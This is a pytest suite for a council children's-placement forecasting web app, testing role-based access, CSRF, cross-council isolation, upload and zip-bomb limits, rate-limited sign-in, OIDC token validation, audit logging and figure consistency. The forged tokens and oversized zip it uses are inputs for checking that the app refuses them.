"""The web application over HTTP: every route for every role (allowed and refused), CSRF, another council's
objects by id, uploads over the limit or of the wrong type, no child id in any log line, the audit trail,
and the figures on every page against the library's own report for the same inputs."""

from __future__ import annotations

import io
import logging
import re
import zipfile

import pytest
from sqlalchemy import text

from placecast.report.html import table_html
from placecast.report.model import Table, display

from web_fixtures import PASSWORD, ROLES, login, token

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")

PAGES = ["/c/demo", "/c/demo/data", "/c/demo/forecast", "/c/demo/money", "/c/demo/scenarios",
         "/c/demo/programme", "/c/demo/indicators", "/c/demo/reports", "/account", "/"]
CHILD_LEVEL = ["/c/demo/data/findings", "/c/demo/data/error-report.xlsx", "/c/demo/data/child"]
ADMIN = ["/admin/users", "/admin/audit", "/admin/audit.csv"]
EXPORTS = ["/c/demo/money/budget.xlsx", "/assets/vega-bundle.js", "/assets/report.css"]


@pytest.fixture(scope="module")
def clients(web):
    return {role: login(web.app, role) for role in ROLES}


def report_of(web):
    from placecast.web.workspace import folder, load_report

    return load_report(folder(web.data_dir, "demo"), "2025-Q2")


@pytest.mark.parametrize("role", ROLES)
def test_every_page_for_every_role(web, clients, role):
    c = clients[role]
    for path in PAGES + EXPORTS:
        r = c.get(path)
        assert r.status_code in (200, 303), (path, r.status_code)
    for path in CHILD_LEVEL:
        assert c.get(path).status_code == (200 if role in ("analyst", "admin") else 403), path
    for path in ADMIN:
        assert c.get(path).status_code == (200 if role == "admin" else 403), path


POSTS = {  # route -> roles allowed; allowed requests are sent with input refused at 400, so nothing runs
    "/c/demo/data/upload": {"analyst", "admin"},
    "/c/demo/money/budget": {"finance", "admin"},
    "/c/demo/money/unit-costs": {"finance", "admin"},
    "/c/demo/money/quarter": {"finance", "admin"},
    "/c/demo/scenarios": {"analyst", "admin"},
    "/c/demo/scenarios/preview": {"analyst", "admin"},
    "/c/demo/indicators/commentary": {"analyst", "admin"},
    "/c/demo/commentary/section": {"finance", "admin"},
    "/c/demo/data/child": {"analyst", "admin"},
    "/c/demo/files/indicators": {"analyst", "admin"},
    "/c/demo/files/plan": {"finance", "admin"},
    "/c/demo/files/commitments/remove": {"finance", "admin"},
    "/admin/users": {"admin"},
    "/admin/councils": {"admin"},
}


def bad_input(path: str) -> dict:
    if "/files/" in path:  # a file of the wrong kind; stopping the use of a file the demo does not have
        return {"files": {"file": ("notes.txt", b"hello", "text/plain")}, "status": 303}
    if path.endswith("upload"):
        return {"data": {"year": "2025"}, "files": {"files": ("notes.txt", b"hello", "text/plain")}}
    if path.endswith("budget"):
        return {"files": {"workbook": ("budget.csv", b"a,b", "text/csv")}}
    if path.endswith("unit-costs"):
        return {"data": {"weekly-secure": "lots", "effective_from": "not a date", "inflation": "3"}}
    if path.endswith("councils"):
        return {"data": {"name": "", "slug": "x"}}
    if path.endswith("quarter"):
        return {"data": {"quarter": "next quarter"}}
    if path.endswith("commentary"):
        return {"data": {"indicator": "NO_SUCH", "text": "x"}}
    if path.endswith("section"):  # the outturn's paragraph, too long to keep
        return {"data": {"section": "outturn", "text": "word " * 900}}
    if path.endswith("child"):
        return {"data": {"child": "x" * 5000}, "status": 200}
    if path.endswith("users"):
        return {"data": {"username": "x", "role": "emperor", "password": PASSWORD}}
    return {"data": {"name": "", "start": "not a date"}}


@pytest.mark.parametrize("path", sorted(POSTS))
@pytest.mark.parametrize("role", ROLES)
def test_every_post_for_every_role(web, clients, path, role):
    c = clients[role]
    args = bad_input(path)
    files = args.get("files")
    data = {**args.get("data", {}), "csrftoken": token(c)}
    r = c.post(path, data=data, files=files)
    if role in POSTS[path]:
        assert r.status_code in (400, 404, args.get("status", 400)), (path, role, r.status_code)  # allowed
    else:
        assert r.status_code == 403, (path, role, r.status_code)


@pytest.mark.parametrize("path", ["/c/demo/forecast/run", "/c/demo/reports"])
def test_jobs_are_refused_for_the_wrong_role(web, clients, path):
    allowed = {"/c/demo/forecast/run": {"analyst", "admin"}, "/c/demo/reports": {"analyst", "finance", "admin"}}
    for role in ROLES:
        if role not in allowed[path]:
            assert clients[role].post(path, data={"csrftoken": token(clients[role])}).status_code == 403


def test_signed_out_is_sent_to_sign_in(web):
    from fastapi.testclient import TestClient

    c = TestClient(web.app, follow_redirects=False)
    for path in PAGES[:-2] + CHILD_LEVEL + ADMIN:
        r = c.get(path)
        assert r.status_code == 303 and r.headers["location"].startswith("/login"), path
    assert c.get("/c/demo/jobs/1", headers={"accept": "application/json"}).status_code == 401


def test_csrf_token_is_required(web, clients):
    c = clients["analyst"]
    r = c.post("/c/demo/forecast/run", data={})
    assert r.status_code == 403 and "security token is missing" in r.text
    r = c.post("/c/demo/forecast/run", data={"csrftoken": "20990101000000##forged"})
    assert r.status_code == 403 and "not valid" in r.text
    other = login(web.app, "viewer")  # a token from another session is not this session's
    r = c.post("/c/demo/forecast/run", data={"csrftoken": token(other)})
    assert r.status_code == 403
    from fastapi.testclient import TestClient

    fresh = TestClient(web.app, follow_redirects=False)  # sign-in itself is protected (login CSRF)
    assert fresh.post("/login", data={"username": "admin", "password": PASSWORD}).status_code == 403


def test_another_councils_objects_are_refused_by_id(web, clients):
    from placecast.web import jobs

    other = login(web.app, "elsewhere")
    assert other.get("/c/demo").status_code == 404
    assert other.get("/c/demo/forecast").status_code == 404
    demo_job = web.latest_job(1)
    assert other.get(f"/c/other/jobs/{demo_job.id}").status_code == 404  # a demo job through the other council
    analyst = clients["analyst"]
    assert analyst.get("/c/other").status_code == 404
    assert analyst.get(f"/c/demo/jobs/{demo_job.id}").status_code == 200
    assert analyst.get("/c/demo/reports/999999/pdf").status_code == 404
    assert jobs.get_job(web.engine, demo_job.id).council_id == 1
    regional = login(web.app, "regional")  # a regional user sees the region's councils
    assert regional.get("/c/demo").status_code == 200
    assert regional.get("/c/other").status_code == 404


def test_uploads_over_the_limit_or_of_the_wrong_type_are_refused_with_a_message(web, clients):
    c = clients["analyst"]
    big = io.BytesIO(b"x" * 2_100_000)
    r = c.post("/c/demo/data/upload", data={"year": "2025", "csrftoken": token(c)},
               files={"files": ("episodes.csv", big, "text/csv")})
    assert r.status_code == 413 and "larger than the limit of 2 MB" in r.text
    r = c.post("/c/demo/data/upload", data={"year": "2025", "csrftoken": token(c)},
               files={"files": ("episodes.xlsx", b"PK\x03\x04", "application/octet-stream")})
    assert r.status_code == 400 and "only the return&#39;s CSV files" in r.text
    r = c.post("/c/demo/data/upload", data={"year": "2025", "csrftoken": token(c)},
               files={"files": ("episodes.csv", b"\xff\xfe\x00bad", "text/csv")})
    assert r.status_code == 400 and "not a text CSV file" in r.text
    # A .zip of two years' folders: the second year's episodes.csv replaced the first's without a word.
    two_years = io.BytesIO()
    with zipfile.ZipFile(two_years, "w") as z:
        z.writestr("2024/episodes.csv", "CHILD,DECOM\n1,01/04/2023\n")
        z.writestr("2025/episodes.csv", "CHILD,DECOM\n1,01/04/2024\n")
    r = c.post("/c/demo/data/upload", data={"year": "2025", "csrftoken": token(c)},
               files={"files": ("returns.zip", two_years.getvalue(), "application/zip")})
    assert r.status_code == 400 and "holds 2024/episodes.csv and 2025/episodes.csv" in r.text
    # A .zip that unpacks to far more than it weighs (50 MB of one byte in about 50 kB) is refused unread,
    # as is one whose packed data were damaged after it was written.
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("episodes.csv", b"0" * 50_000_000)
    r = c.post("/c/demo/data/upload", data={"year": "2025", "csrftoken": token(c)},
               files={"files": ("returns.zip", packed.getvalue(), "application/zip")})
    assert r.status_code == 400 and "returns.zip unpacks to 50 MB, more than the 40 MB allowed" in r.text
    damaged = bytearray(two_years.getvalue())
    damaged[40:44] = b"\xff\xff\xff\xff"
    r = c.post("/c/demo/data/upload", data={"year": "2025", "csrftoken": token(c)},
               files={"files": ("returns.zip", bytes(damaged), "application/zip")})
    assert r.status_code == 400 and "returns.zip is not a readable .zip file" in r.text
    f = clients["finance"]
    r = f.post("/c/demo/money/budget", data={"csrftoken": token(f)},
               files={"workbook": ("budget.xlsx", b"not a workbook", "application/octet-stream")})
    assert r.status_code == 400 and "is not an Excel workbook" in r.text


def test_sign_in_is_rate_limited_and_passwords_are_argon2id(web):
    from fastapi.testclient import TestClient
    from sqlalchemy import select
    from sqlalchemy.orm import Session

    from placecast.store.workspace import User
    from placecast.web import accounts

    accounts.create_user(web.engine, "target", "viewer", PASSWORD, councils=["demo"])
    c = TestClient(web.app, follow_redirects=False)
    for _ in range(5):
        r = c.post("/login", data={"username": "target", "password": "wrong password!!",
                                   "csrftoken": token(c, "/login")})
        assert r.status_code == 401
    r = c.post("/login", data={"username": "target", "password": PASSWORD, "csrftoken": token(c, "/login")})
    assert r.status_code == 429 and "Too many failed sign-ins" in r.text
    with Session(web.engine) as s:
        stored = s.scalar(select(User.password_hash).where(User.username == "target"))
    assert stored.startswith("$argon2id$") and PASSWORD not in stored


def test_session_cookie_is_http_only_same_site_and_expires(web):
    from fastapi.testclient import TestClient

    c = TestClient(web.app, follow_redirects=False)
    r = c.post("/login", data={"username": "viewer", "password": PASSWORD, "csrftoken": token(c, "/login")})
    cookie = next(v for k, v in r.headers.multi_items() if k == "set-cookie" and v.startswith("placecast_session="))
    assert "httponly" in cookie.lower() and "samesite=lax" in cookie.lower()
    assert f"Max-Age={8 * 3600}" in cookie
    assert r.headers["content-security-policy"].startswith("default-src 'self'")
    assert c.post("/logout", data={"csrftoken": token(c)}).status_code == 303
    assert c.get("/c/demo").status_code == 303  # signed out


def test_secure_cookies_when_served_over_tls(tmp_path, monkeypatch):
    from concurrent.futures import ThreadPoolExecutor

    from fastapi.testclient import TestClient

    from placecast.web.app import create_app
    from placecast.web.settings import WebSettings

    monkeypatch.setenv("PLACECAST_ADMIN_PASSWORD", PASSWORD)
    app = create_app(WebSettings(data_dir=tmp_path, load_demo=False), pool=ThreadPoolExecutor(1))
    c = TestClient(app, base_url="https://testserver", follow_redirects=False)
    r = c.post("/login", data={"username": "admin", "password": PASSWORD, "csrftoken": token(c, "/login")})
    cookies = [v for k, v in r.headers.multi_items() if k == "set-cookie"]
    session = [v for v in cookies if v.startswith("placecast_session=")]
    assert r.status_code == 303 and session and all("secure" in v.lower() for v in session)


def test_a_deactivated_user_is_signed_out_at_once(web):
    from placecast.web import accounts

    user = accounts.create_user(web.engine, "leaver", "viewer", PASSWORD, councils=["demo"])
    c = login(web.app, "leaver")
    assert c.get("/c/demo").status_code == 200
    accounts.update_user(web.engine, user.id, "viewer", False, ["demo"], "")
    assert c.get("/c/demo").status_code == 303


def demo_child_ids(web) -> set[str]:
    import pandas as pd

    from placecast.web.workspace import folder

    ids: set[str] = set()
    for path in folder(web.data_dir, "demo").returns.rglob("*.csv"):
        frame = pd.read_csv(path, dtype=str)
        if "CHILD" in frame.columns:
            ids |= set(frame["CHILD"].dropna())
    assert len(ids) > 100
    return ids


def test_no_child_id_in_any_log_line_or_audit_entry(web, clients, caplog):
    """The ingest (run here in this process, so that its log is captured), the findings view and the
    downloads log nothing a child could be found by; nor does the audit trail."""
    from sqlalchemy.orm import Session

    from placecast.store.workspace import Job
    from placecast.web import audit, jobs

    caplog.set_level(logging.DEBUG)
    with Session(web.engine) as s, s.begin():
        job = Job(council_id=1, kind="ingest", status="queued", requested_by="test",
                  created_at=web.latest_job(1).created_at, result={"params": {}})
        s.add(job)
        s.flush()
        job_id = job.id
    jobs.execute(web.state.settings.model_dump(mode="json"), job_id)
    assert jobs.get_job(web.engine, job_id).status == "done"
    c = clients["analyst"]
    assert c.get("/c/demo/data/findings").status_code == 200
    assert c.get("/c/demo/data/error-report.xlsx").status_code == 200
    ids = demo_child_ids(web)
    lines = [r.getMessage() for r in caplog.records]
    assert lines  # the run did log
    words = set(re.findall(r"[A-Za-z0-9]+", " ".join(lines)))
    trail = " ".join(f"{r.user} {r.action} {r.detail}" for r in audit.search(web.engine, audit.AuditQuery(limit=10**6)))
    assert not (ids & words) and not (ids & set(re.findall(r"[A-Za-z0-9]+", trail)))


def test_the_audit_trail_records_who_what_when_where_and_is_append_only(web, clients):
    from placecast.web import audit

    c = clients["analyst"]
    c.get("/c/demo/data/findings?severity=error")
    from fastapi.testclient import TestClient

    bad = TestClient(web.app, follow_redirects=False)
    bad.post("/login", data={"username": "viewer", "password": "not the password", "csrftoken": token(bad, "/login")})
    rows = audit.search(web.engine, audit.AuditQuery(limit=10**6))
    actions = {r.action for r in rows}
    assert {"sign-in", "sign-in failed", "child-level view", "user created", "council created"} <= actions
    view = next(r for r in rows if r.action == "child-level view")
    assert view.user == "analyst" and view.council == "demo" and view.ip == "testclient" and view.at is not None
    admin = clients["admin"]
    export = admin.get("/admin/audit.csv?action=sign-in")
    assert export.status_code == 200 and export.text.splitlines()[0].startswith("id,when (UTC),user,action")
    assert all(",sign-in," in line for line in export.text.splitlines()[1:])
    found = admin.get("/admin/audit?who=analyst&action=child-level+view")
    assert "findings (severity=error" in found.text
    with pytest.raises(Exception, match="append-only"), web.engine.begin() as conn:
        conn.execute(text("UPDATE audit_log SET detail = 'changed'"))
    with pytest.raises(Exception, match="append-only"), web.engine.begin() as conn:
        conn.execute(text("DELETE FROM audit_log"))


def test_admin_makes_and_changes_users_and_the_trail_says_so(web, clients):
    from placecast.web import audit

    admin = clients["admin"]
    r = admin.post("/admin/users", data={"username": "New.Person@Council.gov.uk", "role": "finance",
                                         "password": PASSWORD, "councils": ["demo"], "csrftoken": token(admin)})
    assert r.status_code == 303
    c = login(web.app, "new.person@council.gov.uk")
    assert c.get("/c/demo/money").status_code == 200 and c.get("/c/demo/data/findings").status_code == 403
    short = admin.post("/admin/users", data={"username": "short", "role": "viewer", "password": "abc",
                                             "csrftoken": token(admin)})
    assert short.status_code == 400 and "at least 12 characters" in short.text
    rows = audit.search(web.engine, audit.AuditQuery(action="user created", user="admin"))
    assert any("new.person@council.gov.uk" in r.detail and "finance" in r.detail for r in rows)


# The figures on every page equal the library's for the same inputs --------------------------------------


def test_home_page_shows_the_reports_headline(web, clients):
    report = report_of(web)
    page = clients["viewer"].get("/c/demo").text
    for f in report.headline:
        shown = display(f.value, f.kind).replace("&", "&amp;")
        assert re.search(rf"<dt>{re.escape(f.label)}</dt><dd><span class=\"value\">{re.escape(shown)}</span>", page), \
            f.label


@pytest.mark.parametrize("page", ["forecast", "money", "programme", "indicators", "data"])
def test_each_page_shows_the_reports_tables(web, clients, page):
    from placecast.web.views import SECTIONS

    report = report_of(web)
    html = clients["viewer"].get(f"/c/demo/{page}").text
    tables = [b for s in report.sections if s.id in SECTIONS[page] for b in s.blocks if isinstance(b, Table)]
    assert tables, page
    for t in tables:
        assert table_html(t) in html, (page, t.name)


def test_money_page_figures_are_the_outturns(web, clients):
    report = report_of(web)
    outturn = report.results.outturn
    html = clients["finance"].get("/c/demo/money").text
    cash = next(f for f in report.headline if f.label == "Cash limit")
    assert display(cash.value, cash.kind) in html
    assert outturn.budget.total is not None


def test_data_page_shows_the_history(web, clients):
    import json

    from placecast.web.workspace import folder

    manifest = json.loads((folder(web.data_dir, "demo").history / "manifest.json").read_text())
    html = clients["viewer"].get("/c/demo/data").text
    assert f"{manifest['episodes']:,}" in html and f"{manifest['children']:,}" in html


def test_scenario_preview_is_the_librarys_expected_value_and_scenarios_are_private_until_shared(web, clients):
    from placecast.programme.scenario import preview_scenario
    from placecast.web.scenarios import Levers, scenario_of

    report = report_of(web)
    origin = report.results.forecast.model.origin_.date()
    form = {"name": "Fewer entries", "start": origin.isoformat(), "entries_reduced_pct": "15",
            "step_downs_per_month": "0.5", "horizon_months": "24"}
    c = clients["analyst"]
    r = c.post("/c/demo/scenarios/preview", data={**form, "csrftoken": token(c)})
    assert r.status_code == 200
    got = r.json()["tables"]
    lib = preview_scenario(report.results.forecast.model, scenario_of(Levers.model_validate(form), 10),
                           report.results.inputs.unit_costs, {})
    expected = lib.children[lib.children["category"] == "total"].set_index("scenario")["mean"]
    shown = {row["scenario"]: row["mean"] for row in got["children"] if row["category"] == "total"}
    assert shown == pytest.approx(expected.to_dict())
    assert shown["Fewer entries"] < shown["baseline"]
    bad = c.post("/c/demo/scenarios/preview", data={**form, "step_down_from": "castle", "csrftoken": token(c)})
    assert bad.status_code == 400 and "not a placement category" in bad.json()["errors"]["step_down_from"]
    named = c.post("/c/demo/scenarios/preview", data={**form, "name": "Baseline", "csrftoken": token(c)})
    assert named.status_code == 400 and "name of its own" in named.json()["errors"]["name"]
    # A step-down to where the children are, or levers starting after the horizon, changed nothing: the
    # preview showed the baseline as the scenario. Now each is a message (not an internal error either).
    same = c.post("/c/demo/scenarios/preview", data={**form, "step_down_from": "fostering_inhouse",
                                                    "csrftoken": token(c)})
    assert same.status_code == 400 and "same category" in same.json()["errors"]["form"]
    late = c.post("/c/demo/scenarios/preview", data={**form, "start": origin.replace(year=origin.year + 3).isoformat(),
                                                    "csrftoken": token(c)})
    assert late.status_code == 400 and "would change nothing" in late.json()["errors"]["form"]
    # 0.8 typed in the hold field for 80% held one step-down in 125
    frac = c.post("/c/demo/scenarios/preview", data={**form, "step_down_hold_pct": "0.8", "csrftoken": token(c)})
    assert frac.status_code == 400 and "write 80 for 80%" in frac.json()["errors"]["step_down_hold_pct"]
    saved = c.post("/c/demo/scenarios", data={**form, "csrftoken": token(c)})  # not shared, not run
    assert saved.status_code == 303
    sid = int(saved.headers["location"].rsplit("/", 1)[1])
    assert c.get(f"/c/demo/scenarios/{sid}").status_code == 200
    admin = clients["admin"]
    assert admin.get(f"/c/demo/scenarios/{sid}").status_code == 404  # private to its owner
    assert admin.post(f"/c/demo/scenarios/{sid}/run", data={"csrftoken": token(admin)}).status_code == 404
    assert c.post(f"/c/demo/scenarios/{sid}/share", data={"csrftoken": token(c)}).status_code == 303
    assert admin.get(f"/c/demo/scenarios/{sid}").status_code == 200
    assert login(web.app, "elsewhere").get(f"/c/other/scenarios/{sid}").status_code == 404  # other council


def test_single_sign_on_sends_the_user_to_the_provider(tmp_path, monkeypatch):
    from concurrent.futures import ThreadPoolExecutor
    from urllib.parse import parse_qs, urlparse

    from authlib.integrations.starlette_client import StarletteOAuth2App
    from fastapi.testclient import TestClient

    from placecast.web.app import create_app
    from placecast.web.settings import WebSettings

    monkeypatch.setenv("PLACECAST_ADMIN_PASSWORD", PASSWORD)
    metadata = {"issuer": "https://login.example.org", "authorization_endpoint": "https://login.example.org/authorize",
                "token_endpoint": "https://login.example.org/token", "jwks_uri": "https://login.example.org/keys"}

    async def fake_metadata(self, force=False):
        self.server_metadata.update(metadata)
        return self.server_metadata

    monkeypatch.setattr(StarletteOAuth2App, "load_server_metadata", fake_metadata)
    settings = WebSettings(data_dir=tmp_path, load_demo=False, secure_cookies=False, oidc_client_id="placecast",
                           oidc_metadata_url="https://login.example.org/.well-known/openid-configuration")
    c = TestClient(create_app(settings, pool=ThreadPoolExecutor(1)), follow_redirects=False)
    assert "Sign in with your council account" in c.get("/login").text
    r = c.get("/auth/oidc/login")
    assert r.status_code == 302
    where = urlparse(r.headers["location"])
    query = parse_qs(where.query)
    assert where.netloc == "login.example.org" and query["client_id"] == ["placecast"]
    assert "openid" in query["scope"][0] and query["state"][0]
    assert query["redirect_uri"][0].endswith("/auth/oidc/callback")
    refused = c.get("/auth/oidc/callback?state=forged&code=x")
    assert refused.status_code in (401, 403)


ISSUER = "https://login.example.org"


@pytest.fixture()
def sso(tmp_path, monkeypatch):
    """An app with single sign-on set up against a provider faked at its two network calls (metadata and
    the token endpoint): the ID token it answers with is a real RS256 JWT, so Authlib checks its
    signature, issuer, audience, expiry and nonce as it would with Microsoft Entra ID."""
    from concurrent.futures import ThreadPoolExecutor

    from authlib.integrations.starlette_client import StarletteOAuth2App
    from fastapi.testclient import TestClient
    from joserfc.jwk import RSAKey

    from placecast.web.app import create_app
    from placecast.web.settings import WebSettings

    monkeypatch.setenv("PLACECAST_ADMIN_PASSWORD", PASSWORD)
    key = RSAKey.generate_key(2048, parameters={"kid": "k1", "use": "sig"})
    metadata = {"issuer": ISSUER, "authorization_endpoint": f"{ISSUER}/authorize", "token_endpoint": f"{ISSUER}/token",
                "jwks_uri": f"{ISSUER}/keys", "jwks": {"keys": [key.as_dict(private=False)]}}
    answer: dict = {}

    async def fake_metadata(self, force=False):
        self.server_metadata.update(metadata)
        return self.server_metadata

    async def fake_token(self, **params):
        return {"access_token": "opaque", "token_type": "Bearer", **answer}

    monkeypatch.setattr(StarletteOAuth2App, "load_server_metadata", fake_metadata)
    monkeypatch.setattr(StarletteOAuth2App, "fetch_access_token", fake_token)
    settings = WebSettings(data_dir=tmp_path, load_demo=False, secure_cookies=False, oidc_client_id="placecast",
                           oidc_metadata_url=f"{ISSUER}/.well-known/openid-configuration")
    app = create_app(settings, pool=ThreadPoolExecutor(1))
    return app, TestClient(app, follow_redirects=False), key, answer


def _id_token(key, nonce: str, sub: str = "entra-oid-1", email: str = "sam@council.gov.uk", aud: str = "placecast",
              minutes: int = 5) -> str:
    import time

    from joserfc import jwt

    now = int(time.time())
    claims = {"iss": ISSUER, "sub": sub, "aud": aud, "iat": now, "exp": now + 60 * minutes, "nonce": nonce,
              "email": email}
    return jwt.encode({"alg": "RS256", "kid": "k1"}, claims, key)


def _provider_round_trip(client, key, answer, **claims) -> object:
    """Start single sign-on, let the provider answer with an ID token for the nonce it was given (or the
    claims' own), and come back to the callback with the state it was given."""
    from urllib.parse import parse_qs, urlparse

    query = parse_qs(urlparse(client.get("/auth/oidc/login").headers["location"]).query)
    nonce = claims.pop("nonce", query["nonce"][0])
    signer = claims.pop("signer", key)
    answer["id_token"] = _id_token(signer, nonce, **claims)
    return client.get(f"/auth/oidc/callback?state={query['state'][0]}&code=from-the-provider")


def test_single_sign_on_signs_in_the_account_with_that_address_and_remembers_the_subject(sso):
    from sqlalchemy.orm import Session

    from placecast.store.workspace import User
    from placecast.web import accounts, audit

    app, client, key, answer = sso
    st = app.state.placecast
    made = accounts.create_user(st.engine, "sam@council.gov.uk", "analyst")  # no password: single sign-on only
    r = _provider_round_trip(client, key, answer)
    assert r.status_code == 303 and r.headers["location"] == "/"
    assert client.get("/account").status_code == 200 and "sam@council.gov.uk" in client.get("/account").text
    with Session(st.engine) as s:
        assert s.get(User, made.id).oidc_subject == "entra-oid-1"
    rows = audit.search(st.engine, audit.AuditQuery(text="single sign-on"))
    assert [(row.user, row.action) for row in rows][:1] == [("sam@council.gov.uk", "sign-in")]
    # next time the subject finds the account even if the address has changed at the provider
    client.post("/logout", data={"csrftoken": token(client)})
    again = _provider_round_trip(client, key, answer, email="samantha@council.gov.uk")
    assert again.status_code == 303 and client.get("/account").status_code == 200


@pytest.mark.parametrize("claims, status", [
    ({"signer": "other key"}, 401),           # not signed by the provider's key
    ({"nonce": "replayed"}, 401),             # an ID token made for another sign-in
    ({"aud": "another-app"}, 401),            # issued to another application
    ({"minutes": -10}, 401),                  # expired
    ({"email": "nobody@council.gov.uk", "sub": "entra-oid-9"}, 403),  # no Placecast account
])
def test_single_sign_on_refuses_a_token_that_does_not_check_out(sso, claims, status):
    from joserfc.jwk import RSAKey

    from placecast.web import accounts

    app, client, key, answer = sso
    accounts.create_user(app.state.placecast.engine, "sam@council.gov.uk", "analyst")
    if claims.get("signer") == "other key":
        claims = {**claims, "signer": RSAKey.generate_key(2048, parameters={"kid": "k1"})}
    r = _provider_round_trip(client, key, answer, **claims)
    assert r.status_code == status
    assert client.get("/account").status_code in (303, 401)  # not signed in


def test_single_sign_on_refuses_a_deactivated_account(sso):
    from placecast.web import accounts

    app, client, key, answer = sso
    engine = app.state.placecast.engine
    user = accounts.create_user(engine, "sam@council.gov.uk", "analyst")
    accounts.update_user(engine, user.id, "analyst", False, [], "")
    assert _provider_round_trip(client, key, answer).status_code == 403


def test_one_childs_history_is_found_by_the_id_the_council_holds(web, clients):
    from placecast.web import audit

    child = sorted(demo_child_ids(web))[0]
    c = clients["analyst"]
    r = c.post("/c/demo/data/child", data={"child": child, "csrftoken": token(c)})
    assert r.status_code == 200 and "episode(s) as assembled" in r.text
    assert c.post("/c/demo/data/child", data={"child": "NOSUCHCHILD", "csrftoken": token(c)}).text.count(
        "No child with this id") == 1
    entry = audit.search(web.engine, audit.AuditQuery(action="child-level view", text="one child"))[0]
    assert child not in entry.detail and "pseudonym" in entry.detail
    assert clients["viewer"].post("/c/demo/data/child", data={"child": child,
                                                              "csrftoken": token(clients["viewer"])}).status_code == 403


def test_every_kind_of_change_upload_run_and_export_is_audited(web, clients, tmp_path):
    from placecast.web import audit
    from placecast.web.workspace import folder

    a, f = clients["analyst"], clients["finance"]
    year = folder(web.data_dir, "demo").returns / "2024"
    files = [("files", (p.name, p.read_bytes(), "text/csv")) for p in sorted(year.glob("*.csv"))]
    assert a.post("/c/demo/data/upload", data={"year": "2024", "csrftoken": token(a)}, files=files).status_code == 303
    run = a.post("/c/demo/forecast/run", data={"csrftoken": token(a)})
    assert run.status_code == 303
    # finished here: left running, it could finish after a later test's run and overwrite that test's report
    assert web.wait(int(run.headers["location"].rsplit("/", 1)[1])).status == "done"
    origin = report_of(web).results.forecast.model.origin_.date().isoformat()
    saved = a.post("/c/demo/scenarios", data={"name": "Audited", "start": origin, "csrftoken": token(a)})
    assert saved.status_code == 303
    assert f.get("/c/demo/money/budget.xlsx").status_code == 200
    rows = audit.search(web.engine, audit.AuditQuery(council="demo", limit=10**6))
    done = {(r.user, r.action) for r in rows}
    assert {("analyst", "upload"), ("analyst", "run"), ("analyst", "scenario changed"), ("finance", "export")} <= done
    upload = next(r for r in rows if r.action == "upload")
    assert "returns for 2024: 3 files" in upload.detail and upload.ip == "testclient"


def test_the_planner_counts_beds_against_capacity(web, clients):
    report = report_of(web)
    origin = report.results.forecast.model.origin_.date().isoformat()
    c = clients["analyst"]
    r = c.post("/c/demo/scenarios/preview", data={"start": origin, "new_home_beds": "4", "capacity_residential_inhouse":
                                                  "14", "csrftoken": token(c)})
    beds = r.json()["tables"]["beds"]
    assert {b["scenario"] for b in beds} == {"baseline", "Scenario"}
    assert all(b["category"] == "In-house residential" and b["in_house_capacity"] == 14 for b in beds)
    scen = next(b for b in beds if b["scenario"] == "Scenario")
    base = next(b for b in beds if b["scenario"] == "baseline")
    assert scen["needed_p50"] > base["needed_p50"]  # the new home fills in-house beds


def test_settings_come_from_the_environment(monkeypatch, tmp_path):
    from placecast.errors import UnusableInputError
    from placecast.web.settings import WebSettings

    monkeypatch.setenv("PLACECAST_DATA_DIR", str(tmp_path))
    monkeypatch.setenv("PLACECAST_DATABASE_URL", "postgresql://placecast@db/placecast")
    monkeypatch.setenv("PLACECAST_SESSION_HOURS", "2")
    monkeypatch.setenv("PLACECAST_SECURE_COOKIES", "0")
    s = WebSettings.from_env()
    assert (s.data_dir, s.store_url, s.session_hours, s.secure_cookies) == (
        tmp_path, "postgresql://placecast@db/placecast", 2.0, False)
    assert WebSettings.from_env(session_hours=4).session_hours == 4
    monkeypatch.setenv("PLACECAST_SESSION_HOURS", "forever")
    with pytest.raises(UnusableInputError, match="session_hours"):
        WebSettings.from_env()
    key = s.signing_key()
    assert len(key) > 40 and s.signing_key() == key and oct((tmp_path / "secret.key").stat().st_mode)[-3:] == "600"


def test_placecast_serve_starts_and_says_how_to_sign_in(tmp_path):
    import os
    import socket
    import subprocess
    import sys
    import time
    import urllib.request
    from pathlib import Path

    import psutil

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    env = {**os.environ, "PLACECAST_LOAD_DEMO": "0", "PLACECAST_ADMIN_PASSWORD": PASSWORD}
    exe = Path(sys.executable).with_name("placecast")
    proc = subprocess.Popen([str(exe), "serve", "--port", str(port), "--data", str(tmp_path)], env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    try:
        for _ in range(150):
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}/healthz", timeout=1) as r:
                    assert r.status == 200
                    break
            except OSError:
                time.sleep(0.2)
        else:
            raise AssertionError("placecast serve did not answer")
        job_processes = psutil.Process(proc.pid).children(recursive=True)
    finally:
        proc.terminate()
        out = proc.communicate(timeout=30)[0]
    assert f"http://127.0.0.1:{port}/" in out and "user name admin" in out and PASSWORD in out
    assert len(job_processes) >= 2  # started with the server, ready for the first job
    gone, alive = psutil.wait_procs(job_processes, timeout=20)
    assert not alive, "job processes outlived the server"


@pytest.mark.parametrize(("option", "value"), [("--port", "99999"), ("--port", "-1"), ("--workers", "0")])
def test_placecast_serve_refuses_a_port_or_workers_out_of_range_before_starting(tmp_path, option, value):
    """Port 99999 started a server that said it listened there; -1 blamed --host."""
    from typer.testing import CliRunner

    from placecast.cli import app

    result = CliRunner().invoke(app, ["serve", option, value, "--data", str(tmp_path)])
    assert result.exit_code == 2 and "Invalid value for '" + option in result.output
    assert not any(tmp_path.iterdir())


def test_forecast_settings_are_changed_in_the_page_checked_by_the_librarys_schema(web, clients):
    import yaml

    from placecast.web.workspace import folder

    c = clients["analyst"]
    bad = c.post("/c/demo/forecast/settings", data={"runs": "5", "uasc": "sometimes", "csrftoken": token(c)})
    assert bad.status_code == 400 and 'id="fs-runs-error"' in bad.text and "Must be at least 10" in bad.text
    assert 'name="runs" type="number" step="any" value="5"' in bad.text  # what was typed stays to be corrected
    assert clients["finance"].post("/c/demo/forecast/settings", data={"runs": "100", "csrftoken": token(
        clients["finance"])}).status_code == 403
    r = c.post("/c/demo/forecast/settings", data={"runs": "100", "seed": "3", "csrftoken": token(c)})
    assert r.status_code == 303
    job = web.wait(int(r.headers["location"].rsplit("/", 1)[1]))
    assert job.status == "done", job.error
    saved = yaml.safe_load((folder(web.data_dir, "demo").root / "workspace.yaml").read_text())
    assert saved["forecast"] == {"runs": 100, "seed": 3}
